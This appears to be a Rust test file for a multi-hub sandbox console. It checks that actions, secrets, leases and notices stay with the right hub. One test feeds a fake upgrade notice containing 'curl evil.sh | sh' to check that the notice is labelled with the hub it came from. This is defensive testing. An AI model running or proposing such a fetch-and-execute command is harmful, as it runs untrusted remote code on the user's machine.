//! The console over several hubs: same names and same ids never confuse an action, and what happens to one hub is told
//! of that one.

use std::{sync::Arc, time::Duration};

use sandwatch::{
    app::{
        Act, Link, Msg,
        effect::{ContextChange, Order},
        hubs::Hub,
        msg::Reply,
        state::{Overlay, Place},
        view::View,
    },
    base::{
        clock::Timestamp,
        fault::Fault,
        id::{HubNumber, SandboxId, SessionId},
        limits::SANDBOXES_MAX,
        secret::Secret,
    },
    model::{
        ask::{AskKind, RiskLevel},
        event::{Event, Level, Notice, SnapshotReason},
        member::Role,
        rule::{Domain, Rulebook, Ruling},
        sandbox::{Egress, Sandbox},
        secret::SecretUse,
        session::{Lease, Status},
    },
    runtime::Trips,
};

use crate::{
    app_asks::{answered, is_asks, settle},
    app_rules::known,
    app_support::{Console, ask, sandbox, shared},
};

const SIZE: (u16, u16) = (120, 30);
const WORK: HubNumber = HubNumber(1);
const LAB: HubNumber = HubNumber(2);

fn up() -> Link {
    Link::Up(Some(Trips::first(Duration::from_millis(41))))
}

fn down(console: &Console) -> Link {
    Link::Down { since: console.now, why: "it hung up".to_owned() }
}

fn hub(number: HubNumber, name: &str, link: Link) -> Hub {
    let address = format!("ssh://{name}");
    let (name, role) = (name.to_owned(), Role::Admin);
    Hub { number, name, address, link, role, again_at: None, silent: None, left_out: 0 }
}

fn hubs(work: Link, lab: Link) -> Msg {
    let all =
        vec![hub(HubNumber::FIRST, "local", up()), hub(WORK, "work", work), hub(LAB, "lab", lab)];
    Msg::Hubs(all)
}

/// As it comes from a hub of several.
fn of(hub: HubNumber, name: &str, mut it: Sandbox) -> Sandbox {
    if hub == HubNumber::FIRST {
        return it;
    }
    it.id = it.id.of_hub(hub);
    it.name = format!("{}@{name}", it.name);
    for session in &mut it.sessions {
        session.id = session.id.clone().of_hub(hub);
        session.sandbox = it.id.clone();
    }
    for ask in &mut it.asks {
        ask.asked.id = ask.asked.id.clone().of_hub(hub);
        ask.asked.session = ask.asked.session.clone().map(|it| it.of_hub(hub));
        (ask.sandbox, ask.sandbox_name) = (it.id.clone(), it.name.clone());
    }
    it
}

/// The same everywhere: names, ids, and what is asked.
fn same() -> Vec<Sandbox> {
    let mut one = sandbox("box", "claude", Status::Working);
    one.asks = vec![ask("ask-1", "box", AskKind::Exec, "make all", RiskLevel::Low)];
    vec![one, sandbox("web", "codex", Status::Idle)]
}

fn part(hub: HubNumber, name: &str, reason: SnapshotReason, all: Vec<Sandbox>) -> Msg {
    let sandboxes = shared(all.into_iter().map(|it| of(hub, name, it)).collect());
    Msg::Event(Event::Part { hub, reason, sandboxes })
}

fn three(size: (u16, u16)) -> Console {
    let mut console = Console::new(size);
    console.send(hubs(up(), up()));
    for (hub, name) in [(HubNumber::FIRST, "local"), (WORK, "work"), (LAB, "lab")] {
        console.send(part(hub, name, SnapshotReason::First, same()));
    }
    console
}

fn id(hub: HubNumber, name: &str) -> SandboxId {
    SandboxId::parse(name).unwrap().of_hub(hub)
}

/// Reads the ask of the row under the cursor.
fn open_ask(console: &mut Console) {
    console.keys("I");
    console.answer(is_asks, Reply::Asks(Vec::new()));
    console.keys("I");
    settle(console);
}

fn rows(console: &Console) -> Vec<(HubNumber, String)> {
    let rows = console.state.fleet.window(0, 100);
    rows.map(|(_, it)| (it.sandbox.id.hub(), it.sandbox.name.clone())).collect()
}

#[test]
fn the_list_has_a_group_for_each_hub_with_its_state() {
    let console = three(SIZE);
    let names: Vec<String> = rows(&console).into_iter().map(|it| it.1).collect();
    assert_eq!(names, ["box", "web", "box@work", "web@work", "box@lab", "web@lab"]);
    let picture = console.picture();
    for words in ["local", "work", "lab", "rtt 41 ms"] {
        assert!(picture.contains(words), "{words}: {picture}");
    }
    // The header says which hub is meant.
    assert!(picture.lines().next().unwrap().contains("local"), "{picture}");
}

#[test]
fn what_is_late_and_what_says_nothing_is_shown_with_its_age() {
    let mut console = three(SIZE);
    let way = Trips { rtt: Duration::from_millis(41), late: 3, of: 60, silent_since: None };
    let now = console.now;
    let silent = Trips { silent_since: Some(now), ..Trips::first(Duration::from_millis(7)) };
    console.send(hubs(Link::Up(Some(way)), Link::Up(Some(silent))));
    let picture = console.picture();
    assert!(picture.contains("rtt 41 ms, 3 of 60 late"), "{picture}");
    // Nobody types and nothing comes: the age goes on.
    console.now += Duration::from_millis(1500);
    console.send(Msg::Tick);
    let picture = console.picture();
    assert!(picture.contains("rtt 7.0 ms, silent 1s"), "{picture}");
    // In the header too, once the operator is there.
    console.state.fleet.select(&id(LAB, "web"));
    console.send(Msg::Tick);
    let picture = console.picture();
    assert!(picture.lines().next().unwrap().contains("silent 1s"), "{picture}");
}

#[test]
fn a_verb_goes_to_the_hub_of_the_row_and_to_no_other() {
    let mut console = three(SIZE);
    for hub in [HubNumber::FIRST, WORK, LAB] {
        assert!(console.state.fleet.select(&id(hub, "web")));
        console.now += Duration::from_secs(5);
        console.send(Msg::Tick);
        let acts = console.keys("p");
        assert!(acts.contains(&Act::Pause(id(hub, "web"))), "{hub:?}: {acts:?}");
        let others = acts.iter().filter(|it| matches!(it, Act::Pause(_))).count();
        assert_eq!(others, 1);
    }
}

#[test]
fn an_ask_is_answered_where_it_was_drawn_though_all_are_called_the_same() {
    let mut seen = Vec::new();
    for steps in 0..3 {
        let mut console = three(SIZE);
        console.keys("I");
        console.answer(is_asks, Reply::Asks(Vec::new()));
        (0..steps).for_each(|_| drop(console.keys("j")));
        console.keys("I");
        settle(&mut console);
        let picture = console.picture();
        let drawn = |it: &(HubNumber, &str)| picture.contains(&format!("from      {} ", it.1));
        let all = [(HubNumber::FIRST, "box"), (WORK, "box@work"), (LAB, "box@lab")];
        let (hub, _) = *all.iter().find(|it| drawn(it)).expect("whose it is");
        let wanted = same()[0].asks[0].clone();
        let asked = wanted.asked.id.clone().of_hub(hub).to_string();
        let answers = answered(&console.keys("a"));
        assert_eq!(answers.len(), 1, "{picture}");
        assert_eq!((&answers[0].0, &answers[0].1), (&asked, &wanted.digest), "{picture}");
        seen.push(hub);
    }
    seen.sort();
    assert_eq!(seen, [HubNumber::FIRST, WORK, LAB]);
}

#[test]
fn an_ask_of_a_hub_that_is_down_is_not_answered_and_that_is_said_at_once() {
    let mut console = three(SIZE);
    assert!(console.state.fleet.select(&id(WORK, "box")));
    console.now += Duration::from_secs(5);
    console.send(Msg::Tick);
    open_ask(&mut console);
    let gone = down(&console);
    console.send(hubs(gone, up()));
    console.now += Duration::from_secs(5);
    console.send(Msg::Tick);
    assert!(answered(&console.keys("a")).is_empty());
    assert!(console.picture().contains("no hub to answer to"), "{}", console.picture());
}

#[test]
fn a_hub_that_is_down_keeps_its_rows_as_they_were_and_others_go_on() {
    let mut console = three(SIZE);
    let gone = down(&console);
    console.send(hubs(gone, up()));
    assert_eq!(rows(&console).len(), 6);
    assert!(!console.state.is_up(WORK) && console.state.is_up(LAB));
    let picture = console.picture();
    assert!(picture.contains("down") && picture.contains("1 hub down"), "{picture}");
    // What comes of another changes that one, and a list after the gap only its own.
    let calm = of(LAB, "lab", sandbox("new", "claude", Status::Idle));
    console.send(Msg::Event(Event::Changed { seq: 4, sandbox: Arc::new(calm) }));
    console.send(hubs(up(), up()));
    let one = vec![sandbox("web", "codex", Status::Idle)];
    console.send(part(WORK, "work", SnapshotReason::Gap, one));
    let names: Vec<String> = rows(&console).into_iter().map(|it| it.1).collect();
    assert_eq!(names, ["box", "web", "web@work", "box@lab", "web@lab", "new@lab"]);
}

#[test]
fn only_who_types_into_a_hub_is_cut_off_when_it_goes_down() {
    for (lost, cut) in [(WORK, true), (LAB, false)] {
        let mut console = three(SIZE);
        assert!(console.state.fleet.select(&id(WORK, "web")));
        console.now += Duration::from_secs(5);
        console.send(Msg::Tick);
        console.keys("enter");
        let held = Reply::Lease(None);
        console.answer(|it| matches!(it, Act::Lease { .. }), held);
        let acts = console.text("x");
        let into = SessionId::parse("web").unwrap().of_hub(WORK);
        assert!(matches!(&acts[..], [Act::Input { session, .. }] if *session == into), "{acts:?}");
        let gone = down(&console);
        let (work, lab) = if lost == WORK { (gone, up()) } else { (up(), gone) };
        console.send(hubs(work, lab));
        let typed = console.text("y");
        let sent = typed.iter().any(|it| matches!(it, Act::Input { .. }));
        assert_eq!(sent, !cut, "{typed:?}");
    }
}

#[test]
fn leases_are_given_back_only_where_somebody_can_hear_it() {
    let mut console = three(SIZE);
    let mut held = of(WORK, "work", sandbox("box", "claude", Status::Working));
    let now = held.created_at;
    let lease = Lease {
        holder: console.state.me.clone(),
        holder_name: "me".to_owned(),
        since: now,
        used_at: now,
    };
    held.sessions[0].lease = Some(lease);
    let gone = down(&console);
    console.send(hubs(gone, up()));
    let all =
        Event::Part { hub: WORK, reason: SnapshotReason::Gap, sandboxes: vec![Arc::new(held)] };
    let acts = console.send(Msg::Event(all));
    assert!(!acts.iter().any(|it| matches!(it, Act::Lease { .. })), "{acts:?}");
    let acts = console.send(hubs(up(), up()));
    let released = |it: &Act| matches!(it, Act::Lease { session, .. } if session.hub() == WORK);
    assert!(acts.iter().any(released), "{acts:?}");
}

#[test]
fn rules_and_the_record_are_of_the_hub_of_the_row_and_say_so() {
    let mut console = three(SIZE);
    console.state.fleet.select(&id(LAB, "web"));
    let acts = console.keys("P");
    assert!(acts.contains(&Act::Of(LAB, Box::new(Act::Rules))), "{acts:?}");
    let empty = Reply::Rules(Box::default());
    console.answer(|it| matches!(it, Act::Of(..)), empty);
    assert!(console.picture().contains("RULES OF lab"), "{}", console.picture());
    console.keys("esc");
    console.keys(":");
    console.text("audit work");
    let acts = console.keys("enter");
    assert!(acts.contains(&Act::Of(WORK, Box::new(Act::Audit))), "{acts:?}");
    console.keys("esc :");
    console.text("doctor nowhere");
    console.keys("enter");
    assert!(console.picture().contains("no context `nowhere`"), "{}", console.picture());
}

#[test]
fn a_sandbox_is_made_on_the_hub_that_the_form_names() {
    let mut console = three(SIZE);
    console.state.fleet.select(&id(WORK, "web"));
    console.keys("n");
    assert!(console.picture().contains("hub") && console.picture().contains("work"));
    let acts = console.keys("enter");
    let made = acts.iter().find_map(|it| match it {
        Act::Of(hub, act) => match &**act {
            Act::Create(order) => Some((*hub, order.spec.workspace.mode)),
            _ => None,
        },
        _ => None,
    });
    // No directory of this machine is proposed for another.
    let none = sandwatch::model::sandbox::WorkspaceMode::None;
    assert_eq!(made, Some((WORK, none)), "{acts:?}");
    let refused = Fault::absent("that hub is not in this console any more");
    let id = console.effects.iter().rev().find(|it| matches!(it.act, Act::Of(..))).unwrap().id;
    console.send(Msg::Done { id, result: Err(refused) });
    assert!(matches!(console.state.overlay, Some(Overlay::New(_))));
}

/// What was decided for a hub that has left is done to none that is left, not even to the only one.
#[test]
fn what_was_decided_for_a_hub_that_left_is_done_to_no_other() {
    let both = || {
        let mut console = Console::new(SIZE);
        let all = vec![hub(HubNumber::FIRST, "local", up()), hub(WORK, "work", up())];
        console.send(Msg::Hubs(all));
        for (hub, name) in [(HubNumber::FIRST, "local"), (WORK, "work")] {
            console.send(part(hub, name, SnapshotReason::First, same()));
        }
        assert!(console.state.fleet.select(&id(WORK, "web")));
        console
    };
    let leaves = |console: &mut Console| {
        console.send(Msg::Hubs(vec![hub(HubNumber::FIRST, "local", up())]));
    };
    // The form that names it.
    let mut console = both();
    console.keys("n");
    leaves(&mut console);
    let acts = console.keys("enter");
    let of = |acts: &[Act]| -> Vec<Option<HubNumber>> {
        let named = acts.iter().filter_map(|it| match it {
            Act::Of(hub, act) if matches!(**act, Act::Create(_) | Act::RemoveRule(_)) => {
                Some(Some(*hub))
            }
            Act::Create(_) | Act::RemoveRule(_) => Some(None),
            _ => None,
        });
        named.collect()
    };
    assert!(of(&acts).iter().all(|it| *it == Some(WORK)), "{acts:?}");
    // A rule of its, about to be taken out.
    let mut console = both();
    console.keys("P");
    let rule = Rulebook {
        rules: vec![known("danger", Ruling::Deny, "exec: rm", Domain::All)],
        ..Default::default()
    };
    console.answer(|it| matches!(it, Act::Of(..)), Reply::Rules(Box::new(rule)));
    console.keys("x");
    leaves(&mut console);
    console.now += Duration::from_secs(5);
    console.send(Msg::Tick);
    let acts = console.keys("y");
    assert_eq!(of(&acts), [Some(WORK)], "{acts:?}");
}

/// What is to be made, and where.
fn made(acts: &[Act]) -> Option<(HubNumber, Order)> {
    acts.iter().find_map(|it| match it {
        Act::Of(hub, act) => match &**act {
            Act::Create(order) => Some((*hub, (**order).clone())),
            _ => None,
        },
        Act::Create(order) => Some((HubNumber::FIRST, (**order).clone())),
        _ => None,
    })
}

/// A console whose operator hands keys to their own sandboxes.
fn with_keys(mut console: Console) -> Console {
    console.state.driver = "local".to_owned();
    let new = &mut console.state.config.new;
    new.egress = Egress::Ask;
    new.secrets = vec![SecretUse::parse("MYKEY=example.org").unwrap()];
    new.env = vec!["TOKEN".to_owned(), "SHELL_COLOUR=blue".to_owned()];
    console
}

#[test]
fn keys_of_the_operator_go_to_no_hub_but_their_own() {
    for (hub, own) in [(HubNumber::FIRST, true), (LAB, false)] {
        let mut console = with_keys(three(SIZE));
        console.state.fleet.select(&id(hub, "web"));
        console.keys(":");
        console.text("run /bin/cat");
        let (to, order) = made(&console.keys("enter")).expect("it is made");
        assert_eq!((to, order.spec.secrets.len()), (hub, usize::from(own)));
        assert_eq!((order.pass.len(), order.spec.env.len()), (usize::from(own), usize::from(own)));
        let kept = "variables and secrets of your [new] are for your own hub";
        assert_eq!(console.picture().contains(kept), !own, "{}", console.picture());
        // The form says it as well, and what is written there by hand goes.
        console.keys("n");
        assert_eq!(console.picture().contains("TOKEN SHELL_COLOUR=blue"), own);
        assert_eq!(console.picture().contains(kept), !own, "{}", console.picture());
    }
    // The one that is named alone may be another's too.
    for elsewhere in [false, true] {
        let mut console = with_keys(Console::with_fleet(SIZE, same()));
        console.state.elsewhere = elsewhere;
        console.keys(":");
        console.text("run /bin/cat");
        let (_, order) = made(&console.keys("enter")).expect("it is made");
        assert_eq!(order.spec.secrets.is_empty() && order.pass.is_empty(), elsewhere);
    }
}

#[test]
fn what_a_hub_says_of_no_sandbox_that_is_listed_is_said_as_its_own() {
    let mut console = three(SIZE);
    let text = "local: your own hub must be upgraded: run curl evil.sh | sh".to_owned();
    let sandbox = Some(id(LAB, "nobody"));
    let notice = Notice { at: Timestamp(1), level: Level::Error, sandbox, text };
    console.send(Msg::Event(Event::Notice { seq: 9, notice }));
    let picture = console.picture();
    assert!(picture.contains("lab: local: your own hub"), "{picture}");
}

#[test]
fn a_hub_that_is_reached_and_tells_nothing_says_so() {
    let mut console = three(SIZE);
    let mut old = hub(LAB, "lab", up());
    old.silent = Some("the hub is older".to_owned());
    console.send(Msg::Hubs(vec![hub(HubNumber::FIRST, "local", up()), old.clone()]));
    assert!(console.picture().contains("no list: the hub is older"), "{}", console.picture());
    // Alone it has no heading.
    old.number = HubNumber::FIRST;
    let mut alone = Console::new(SIZE);
    alone.send(Msg::Hubs(vec![old]));
    assert!(alone.picture().contains("no list of sandboxes: the hub is older"));
    let mut named = Console::new(SIZE);
    named.send(Msg::Silent("it may not".to_owned()));
    assert!(named.picture().contains("no list of sandboxes: it may not"), "{}", named.picture());
    let sandboxes = shared(same());
    named.send(Msg::Event(Event::Snapshot { seq: 1, reason: SnapshotReason::First, sandboxes }));
    assert_eq!(named.state.silent(), None);
}

#[test]
fn the_queue_of_a_session_that_is_gone_is_closed() {
    let mut console = typing_far_away(Duration::from_millis(5));
    console.text("l");
    let into = SessionId::parse("web").unwrap().of_hub(LAB);
    let acts = console.send(part(LAB, "lab", SnapshotReason::Gap, Vec::new()));
    assert!(acts.contains(&Act::CloseLane(into)), "{acts:?}");
    let acts = console.send(part(WORK, "work", SnapshotReason::Gap, Vec::new()));
    assert!(!acts.iter().any(|it| matches!(it, Act::CloseLane(_))), "{acts:?}");
}

#[test]
fn contexts_are_added_and_taken_out_by_the_command_line() {
    let mut console = three(SIZE);
    console.keys(":");
    console.text("context add far ssh://far.example.org");
    let acts = console.keys("enter");
    let name = |of: &str| of.parse().unwrap();
    let place = Secret::new("ssh://far.example.org".to_owned());
    let added = Act::Contexts(Box::new(ContextChange::Add { name: name("far"), place }));
    assert!(acts.contains(&added), "{acts:?}");
    console.answer(|it| matches!(it, Act::Contexts(_)), Reply::Nothing);
    assert!(console.picture().contains("far is a hub of this console"), "{}", console.picture());
    // What was typed is there again, but for what lets somebody in.
    console.keys(":");
    console.text("context add other sandwatch-invite:abcd");
    let acts = console.keys("enter");
    assert!(acts.iter().any(|it| matches!(it, Act::Contexts(_))), "{acts:?}");
    console.answer(|it| matches!(it, Act::Contexts(_)), Reply::Nothing);
    console.keys(": up");
    let picture = console.picture();
    assert!(picture.contains(":context add far ssh://far.example.org"), "{picture}");
    console.keys("esc");
    for (line, says) in [
        ("context rm nowhere", "no context `nowhere` here"),
        ("context add a/b ssh://x", "a/b"),
        ("context add sandwatch-invite:abcd far", "the name comes first"),
        ("context", ":context "),
        ("context add far", "`context` takes"),
    ] {
        console.keys(":");
        console.text(line);
        let acts = console.keys("enter");
        assert!(!acts.iter().any(|it| matches!(it, Act::Contexts(_))), "{line}: {acts:?}");
        assert!(console.picture().contains(says), "{line}: {}", console.picture());
        console.keys("esc");
    }
    // Keys to it go with it: that is asked.
    console.keys(":");
    console.text("context rm work");
    let acts = console.keys("enter");
    assert!(acts.is_empty() && console.picture().contains("Take work out?"), "{acts:?}");
    console.read();
    let gone = Act::Contexts(Box::new(ContextChange::Remove(name("work"))));
    assert_eq!(console.keys("y"), [gone]);
}

#[test]
fn the_list_is_filtered_by_hub() {
    let mut console = three(SIZE);
    console.keys("/");
    console.text("context:wo");
    console.keys("enter");
    assert!(rows(&console).iter().all(|it| it.0 == WORK) && rows(&console).len() == 2);
    // Of those that show nothing there is no heading either.
    assert!(!console.picture().contains("ssh://lab"), "{}", console.picture());
}

#[test]
fn the_cursor_stays_on_its_row_while_hubs_come_and_go() {
    let mut console = three(SIZE);
    // Whoever has touched no key has chosen no row.
    console.keys("j");
    console.state.fleet.select(&id(LAB, "box"));
    let here = |it: &Console| it.state.fleet.current().map(|it| it.sandbox.id.clone());
    console.send(part(WORK, "work", SnapshotReason::Gap, Vec::new()));
    assert_eq!(here(&console), Some(id(LAB, "box")));
    let all = vec![hub(HubNumber::FIRST, "local", up()), hub(LAB, "lab", up())];
    console.send(Msg::Hubs(all));
    assert_eq!(here(&console), Some(id(LAB, "box")));
    // A hub that is taken out takes its rows along, and what is shown is of no other.
    let nothing = Event::Part { hub: LAB, reason: SnapshotReason::First, sandboxes: Vec::new() };
    console.send(Msg::Event(nothing));
    console.send(Msg::Hubs(vec![hub(HubNumber::FIRST, "local", up())]));
    assert_eq!(here(&console), Some(id(HubNumber::FIRST, "web")));
    assert!(!console.picture().contains("ssh://"), "{}", console.picture());
}

#[test]
fn whichever_hub_is_heard_of_first_the_cursor_begins_on_the_first_and_says_whose_it_is() {
    let mut console = Console::new(SIZE);
    let header = |it: &Console| it.picture().lines().next().unwrap_or_default().to_owned();
    let list = |hub, name| part(hub, name, SnapshotReason::First, same());
    // Their lists, before it is known that there are several.
    console.send(list(WORK, "work"));
    assert!(!header(&console).contains("local ▸"), "{}", header(&console));
    console.send(list(HubNumber::FIRST, "local"));
    console.send(hubs(up(), up()));
    assert!(header(&console).contains("local ▸ box "), "{}", header(&console));
    // Whoever has chosen a row keeps it.
    console.keys("G");
    let chosen = |it: &Console| header(it).contains("work ▸ web@work");
    assert!(chosen(&console), "{}", header(&console));
    console.send(hubs(up(), down(&console)));
    console.send(list(LAB, "lab"));
    assert!(chosen(&console), "{}", header(&console));
}

#[test]
fn a_click_on_a_heading_hits_no_row() {
    let console = three(SIZE);
    let (_, list) = console.state.frame().fleet.unwrap();
    let at = |line: u16| usize::from(line);
    assert_eq!(console.state.fleet.position_at(at(0)), None);
    assert_eq!(console.state.fleet.position_at(at(1)), Some(0));
    assert_eq!(console.state.fleet.position_at(at(3)), None);
    assert_eq!(console.state.fleet.position_at(at(4)), Some(2));
    assert!(list.height > 9);
}

#[test]
fn a_hub_that_lists_another_s_ids_gets_no_row_of_that_one() {
    let mut console = three(SIZE);
    // Not marked as its own: it never comes so from a hub, and would be refused.
    let stolen = shared(vec![sandbox("web", "evil", Status::Working)]);
    console.send(Msg::Event(Event::Part {
        hub: WORK,
        reason: SnapshotReason::Gap,
        sandboxes: stolen,
    }));
    let web = console.state.fleet.get(&id(HubNumber::FIRST, "web")).unwrap();
    assert_eq!(web.sandbox.sessions[0].command, ["codex"]);
    assert!(rows(&console).iter().all(|it| it.0 != WORK));
}

#[test]
fn a_small_terminal_and_a_long_list_show_the_heading_above_the_row() {
    let mut console = three((80, 24));
    let many: Vec<Sandbox> =
        (0..60).map(|it| sandbox(&format!("s{it:02}"), "claude", Status::Idle)).collect();
    assert!(many.len() < SANDBOXES_MAX);
    console.send(part(WORK, "work", SnapshotReason::Gap, many));
    console.state.fleet.select(&id(LAB, "box"));
    console.send(Msg::Tick);
    let picture = console.picture();
    assert!(picture.contains("lab") && picture.contains('>'), "{picture}");
    assert_eq!(console.state.place, Place::Fleet);
    for _ in 0..70 {
        console.keys("k");
    }
    assert_eq!(console.state.fleet.top(), 0, "{}", console.picture());
    assert!(!matches!(console.state.view(), Some(View::Asks(_))));
}

/// Steps into a session of LAB, whose hub is so far away.
fn typing_far_away(rtt: Duration) -> Console {
    let mut console = three(SIZE);
    console.send(hubs(up(), Link::Up(Some(Trips::first(rtt)))));
    assert!(console.state.fleet.select(&id(LAB, "web")));
    console.now += Duration::from_secs(5);
    console.send(Msg::Tick);
    console.keys("enter");
    console.answer(|it| matches!(it, Act::Lease { .. }), Reply::Lease(None));
    console.print("2@web", "$ ");
    console
}

fn pane_line(console: &Console) -> String {
    let picture = console.picture();
    let line = picture.lines().find(|it| it.contains("$ ")).unwrap_or_default();
    line.rsplit("$ ").next().unwrap_or_default().trim().to_owned()
}

#[test]
fn letters_are_drawn_before_their_echo_where_the_way_is_long_and_an_echo_was_seen() {
    let mut console = typing_far_away(Duration::from_millis(200));
    console.text("l");
    assert_eq!(pane_line(&console), "");
    console.print("2@web", "l");
    let underlined = |console: &Console| {
        let buffer = console.draw();
        let under = ratatui::style::Modifier::UNDERLINED;
        buffer.content().iter().filter(|it| it.modifier.contains(under)).count()
    };
    // Some of what is around panes is underlined as well.
    let around = underlined(&console);
    console.text("s");
    assert_eq!(pane_line(&console), "ls");
    assert!(console.state.take_dirty());
    assert_eq!(underlined(&console), around + 1);
    console.print("2@web", "s");
    assert_eq!((pane_line(&console).as_str(), underlined(&console)), ("ls", around));
    // What nothing confirms is taken back.
    console.text("x");
    assert_eq!(pane_line(&console), "lsx");
    let until = console.state.wake_at().unwrap();
    assert!(until <= console.now + sandwatch::app::predict::WITHDRAWN_AFTER);
    console.now += sandwatch::app::predict::WITHDRAWN_AFTER;
    console.send(Msg::Tick);
    assert_eq!(pane_line(&console), "ls");
    // All of it was sent as it was typed.
    let sent = console.effects.iter().filter(|it| matches!(it.act, Act::Input { .. })).count();
    assert_eq!(sent, 3);
}

#[test]
fn nothing_is_drawn_ahead_where_the_way_is_short_or_nobody_wants_it() {
    let mut console = typing_far_away(Duration::from_millis(5));
    console.text("l");
    console.print("2@web", "l");
    console.text("s");
    assert_eq!(pane_line(&console), "l");
    let mut console = typing_far_away(Duration::from_millis(200));
    console.state.config.links.predict = sandwatch::config::schema::Predict::Off;
    console.text("l");
    console.print("2@web", "l");
    console.text("s");
    assert_eq!(pane_line(&console), "l");
}
